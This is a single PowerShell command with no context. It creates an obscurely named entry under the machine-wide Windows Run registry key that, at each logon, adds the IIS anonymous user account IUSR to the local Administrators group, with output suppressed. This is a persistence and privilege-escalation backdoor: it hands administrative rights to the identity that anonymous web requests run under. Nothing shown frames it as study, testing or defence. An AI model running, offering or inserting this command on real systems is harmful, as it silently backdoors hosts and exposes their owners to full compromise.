New-ItemProperty -Path HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Run -Name x -PropertyType String -Value 'cmd /c net localgroup Administrators IUSR /add' | Out-Null
